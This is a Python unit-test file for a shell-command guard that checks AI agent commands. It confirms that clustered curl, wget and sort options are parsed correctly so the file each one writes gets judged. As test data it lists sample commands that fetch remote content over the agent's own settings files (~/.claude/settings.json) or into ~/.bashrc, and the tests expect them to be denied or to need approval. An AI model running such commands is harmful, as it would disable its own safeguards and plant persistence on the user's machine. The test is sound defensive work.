"""A short options' cluster is read as getopt reads it (``_shell_file_operands``): each letter an
option until one that takes a value, whose value is the rest of the word or the next word.
``curl -sSo FILE`` writes ``FILE`` as ``curl -s -S -o FILE`` does; it was read as an option
``-sSo`` and an operand, so the file written was never judged."""

from __future__ import annotations

import pytest

from goalrail.policies.builtins._shell_file_operands import operands
from goalrail.policies.builtins._wrappers import names
from tests.unit.shell_support import HIPAA, PERMISSIVE, SOC2, STRICT, verdict

POLICIES = {"strict": STRICT, "soc2": SOC2, "hipaa": HIPAA, "permissive": PERMISSIVE}
CURL = names("-o -d -H")


def _words(line: str) -> list[tuple[str, bool]]:
    return [(w, False) for w in line.split()]


@pytest.mark.parametrize(
    "line, given, ops",
    [
        ("-sSo out.json URL", {"-o": ["out.json"]}, ["URL"]),
        ("-sSoout.json URL", {"-o": ["out.json"]}, ["URL"]),
        ("-o out.json URL", {"-o": ["out.json"]}, ["URL"]),
        ("-sLH X:1 -do URL", {"-H": ["X:1"], "-d": ["o"]}, ["URL"]),
        ("-sS URL", {}, ["URL"]),
        ("-so", {}, []),  # a value missing at the end: nothing taken
    ],
)
def test_a_cluster_is_read_letter_by_letter(line: str, given: dict[str, list[str]], ops: list[str]) -> None:
    found_ops, found, flags = operands(_words(line), CURL)
    assert [w for w, _ in found_ops] == ops
    assert {k: [w for w, _ in v] for k, v in found.items()} == given
    assert "-s" in flags or not line.startswith("-s")


#: the guard's and the persistence rules' files written through a cluster
WRITES = [
    "curl -sSo ~/.claude/settings.json https://x.example/s.json",
    "curl -sLo ~/.claude/settings.json https://x.example/s.json",
    "curl -fsSLo ~/.claude/settings.local.json https://x.example/s.json",
    "wget -qO ~/.claude/settings.json https://x.example/s.json",
    "wget -nvO ~/.claude/settings.json https://x.example/s.json",
    "sort -uo ~/.claude/settings.json /tmp/e.json",
]


@pytest.mark.parametrize("line", WRITES)
@pytest.mark.parametrize("name", POLICIES)
def test_a_file_written_through_a_cluster_meets_the_guard(name: str, line: str) -> None:
    assert verdict(POLICIES[name], line) == ("ASK" if name == "permissive" else "DENY")


@pytest.mark.parametrize("name", POLICIES)
def test_a_start_up_file_written_through_a_cluster_is_persistence(name: str) -> None:
    expected = "DENY" if name == "strict" else "ASK"
    assert verdict(POLICIES[name], "curl -fsSLo ~/.bashrc https://x.example/rc") == expected


@pytest.mark.parametrize(
    "line",
    [
        "curl -sSLo build/x.json https://x.example/s.json",
        "wget -qO build/x.tgz https://x.example/x.tgz",
        "sort -uo out.txt in.txt",
    ],
)
@pytest.mark.parametrize("name", ["soc2", "hipaa", "permissive"])
def test_a_cluster_writing_in_the_project_stays_allowed(name: str, line: str) -> None:
    assert verdict(POLICIES[name], line) == "ALLOW"
